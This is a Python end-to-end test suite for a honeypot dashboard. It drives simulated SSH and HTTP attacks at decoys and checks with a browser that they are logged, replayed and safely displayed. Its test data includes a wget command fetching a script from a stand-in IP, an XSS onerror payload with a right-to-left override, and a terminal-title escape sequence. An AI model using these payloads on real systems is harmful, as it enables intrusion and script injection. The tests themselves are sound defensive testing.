"""The page against the whole product: real clients attack, a real browser watches."""

import json
import re
import subprocess
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser import Tab, chromium, profile, violations
from tests.product import PASSWORD, Product, running, state_folder
from tests.serving import until

pytestmark = [pytest.mark.needs("chromium", "ssh", "sshpass", "curl"), pytest.mark.slow]

SSH = (
    "sshpass", "-p", "123456", "ssh", "-tt", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
    "-o", "LogLevel=ERROR",
)  # fmt: skip
COMMANDS = ("uname -a", "cd /tmp", "wget http://198.51.100.7/x.sh", "exit")
HOSTILE = "<img src=x onerror=alert(1)>\u202egpj"
SHOWN = r"<img src=x onerror=alert(1)>\xe2\x80\xaegpj"
TITLE = "\x1b]0;owned\x07"
"""What sets a terminal's title, and must set no page's."""


@pytest.fixture(scope="module")
def product() -> Iterator[Product]:
    with state_folder() as state, running(state) as up:
        yield up


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture
def tab(browser: Browser, product: Product) -> Iterator[Tab]:
    with profile(browser, product.ready["api"]) as opened:
        _sign_in(opened, product)
        yield opened
        assert opened.wrong == []


def _sign_in(tab: Tab, product: Product) -> None:
    page = tab.go("/")
    page.get_by_label("Name").fill(product.ready["admin_user"])
    page.get_by_label("Password").fill(PASSWORD)
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="live", exact=True)).to_be_visible()


def _shell(product: Product, *lines: str) -> None:
    address, port = product.decky("ssh")
    typed = "".join(f"{line}\n" for line in lines).encode()
    subprocess.run(
        [*SSH, "-p", str(port), f"root@{address}"], input=typed, capture_output=True, timeout=30, check=False
    )


def _session(product: Product, **query: object) -> str:
    def find() -> str | None:
        items = product.hub.get("/sessions", **query)["items"]
        return next((item["sid"] for item in items if item["ended"] and item["commands"] >= 4), None)

    return str(until(find, "the recorded session"))


def test_an_attack_is_on_now_within_two_seconds_and_can_be_replayed(tab: Tab, product: Product) -> None:
    page = tab.page
    expect(page.get_by_text("Quiet")).to_be_visible()
    _shell(product, *COMMANDS)
    story = page.locator(".story")
    expect(story).to_contain_text("Acting", timeout=2_000)
    expect(story).to_contain_text("127.0.0.1")
    expect(page.locator(".feed-rows li").filter(has_text="wget http://198.51.100.7/x.sh").first).to_be_visible()
    assert violations(page) == []

    story.get_by_role("button").first.click()
    expect(page.get_by_role("heading", name="127.0.0.1")).to_be_visible()
    page.get_by_role("button", name=re.compile("wget")).first.click()
    drawer = page.locator(".drawer")
    expect(drawer).to_contain_text("command.issued")
    drawer.get_by_role("button", name="Raw line").click()
    expect(drawer.locator(".rawline")).to_contain_text("command.issued")
    drawer.get_by_role("link", name="Replay").click()
    _replayed(page, product)


def _replayed(page: Page, product: Product) -> None:
    expect(page.locator(".terminal .ap-term")).to_be_visible()
    expect(page.locator(".command.here")).to_contain_text("wget")
    page.get_by_role("button", name=re.compile("uname -a")).click()
    expect(page.locator(".command.here")).to_contain_text("uname")
    before = page.url, page.locator(".screen-box").get_attribute("data-position")
    page.reload()
    expect(page.locator(".command.here")).to_contain_text("uname")
    assert (page.url, page.locator(".screen-box").get_attribute("data-position")) == before
    page.get_by_role("button", name="Export").click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Recording (.cast)").click()
    head = json.loads(waiting.value.path().read_text().splitlines()[0])
    assert head["version"] == 2


def test_the_address_alone_brings_back_the_view(tab: Tab, product: Product) -> None:
    _shell(product, "id", *COMMANDS)
    sid = _session(product, service="ssh")
    page = tab.go(f"/logs?q=session%3A{sid}%20kind%3Acommand.issued%20wget")
    expect(page.locator(".rows [role=row]")).to_have_count(1)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.locator(".drawer")).to_be_visible()
    address = page.url
    with profile(page.context.browser or pytest.fail("no browser"), tab.origin) as other:
        _sign_in(other, product)
        other.go(address.removeprefix(tab.origin))
        expect(other.page.locator(".chip")).to_have_count(3)
        expect(other.page.locator(".drawer")).to_contain_text("wget http://198.51.100.7/x.sh")


def test_a_stranger_is_asked_for_his_name_and_led_on(browser: Browser, product: Product) -> None:
    with profile(browser, product.ready["api"]) as tab:
        page = tab.go("/fleet?as=table")
        expect(page).to_have_url(re.compile(r"/login\?next="))
        page.get_by_label("Name").fill(product.ready["admin_user"])
        page.get_by_label("Password").fill(PASSWORD)
        page.keyboard.press("Enter")
        expect(page.locator(".fleet-table tbody tr")).to_have_count(len(product.ready["deckies"]))
        page.reload()
        expect(page.locator(".fleet-table tbody tr")).to_have_count(len(product.ready["deckies"]))


def test_hostile_text_through_real_decoys_is_text(tab: Tab, product: Product) -> None:
    address, port = product.decky("http")
    subprocess.run(
        ["curl", "-s", "-o", "/dev/null", "-m", "10", "-A", HOSTILE, f"http://{address}:{port}/"],
        check=True,
        timeout=20,
    )
    _shell(product, f"echo '{HOSTILE}'", f"echo '{TITLE}'", "exit")
    until(lambda: len(product.logs(search="onerror")) >= 2, "both events")
    page = tab.go("/logs?q=onerror")
    rows = page.locator(".rows [role=row]")
    expect(rows.nth(1)).to_be_visible()
    for index in range(rows.count()):
        rows.nth(index).click()
        expect(page.locator(".drawer .facts.own bdi", has_text=SHOWN).first).to_be_attached()
    assert page.locator("main img, main script").count() == 0
    sid = product.hub.get("/sessions", service="ssh")["items"][0]["sid"]
    tab.go(f"/sessions/{sid}")
    expect(page.locator(".terminal .ap-term")).to_be_visible()
    assert "owned" not in page.title()


def test_every_screen_of_the_running_product_is_sound(tab: Tab, product: Product) -> None:
    decky = product.ready["deckies"][0]["name"]
    places = "/ /attackers /sessions /logs /credentials /fleet /system /settings /settings/keys /settings/account"
    for path in (*places.split(), "/settings/users", "/settings/alerts", "/wall", f"/fleet/{decky}"):
        page = tab.go(path)
        expect(page.locator("[aria-busy=true]")).to_have_count(0)
        assert page.locator("[role=alert]:not(:empty)").all_inner_texts() == [], path
        assert violations(page) == [], path


def test_deckies_are_deployed_and_torn_down_from_the_page(tab: Tab, product: Product) -> None:
    page = tab.go("/fleet")
    before = len(product.ready["deckies"])
    expect(page.locator(".decky")).to_have_count(before)
    page.keyboard.press("d")
    page.get_by_role("dialog").get_by_label(re.compile("iot-device")).check()
    page.get_by_role("button", name="Deploy 1 decky").click()
    expect(page.locator(".decky")).to_have_count(before + 1, timeout=20_000)
    known = {decky["name"] for decky in product.ready["deckies"]}
    names = page.locator(".decky-name").all_inner_texts()
    (name,) = set(names) - known
    page.get_by_role("link", name=name).click()
    page.get_by_role("button", name="Tear down").click()
    page.get_by_role("dialog").get_by_label(re.compile("Type")).fill(name)
    page.get_by_role("dialog").get_by_role("button", name="Tear down").click()
    expect(page).to_have_url(re.compile("/fleet$"))
    expect(page.locator(".decky")).to_have_count(before, timeout=20_000)
